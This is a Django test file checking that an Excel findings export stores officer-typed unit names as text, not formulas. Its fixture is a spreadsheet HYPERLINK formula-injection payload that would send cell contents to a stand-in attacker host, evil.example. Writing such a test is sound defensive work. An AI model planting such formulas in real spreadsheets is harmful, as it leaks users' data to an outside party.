"""The OIT findings workbook writes what officers typed as text, never as a formula."""

from __future__ import annotations

import io
import zipfile

from django.urls import reverse
from openpyxl import load_workbook

from prongsai.oit.models import Evidence
from prongsai.orgs.models import Unit
from prongsai.test import BaseTestCase

OWNER = '=HYPERLINK("http://evil.example/?leak="&B2,"กองคลัง")'


class FindingsCellTests(BaseTestCase):
    def test_an_owner_named_like_a_formula_is_written_as_text(self):
        unit = Unit.objects.create(org=self.org_a, name=OWNER)
        Evidence.objects.create(org=self.org_a, year=2568, item="o1", owner=unit)
        self.login(self.officer_a)

        response = self.client.get(reverse("oit:findings", args=[self.org_a.slug, 2568, "xlsx"]))

        sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
        self.assertNotIn(b"<f>", sheet_xml)
        sheet = load_workbook(io.BytesIO(response.content)).active
        owners = [row[7] for row in sheet.iter_rows(min_row=2) if row[0].value == "o1"]
        self.assertEqual([(c.value, c.data_type) for c in owners], [(OWNER, "s")])
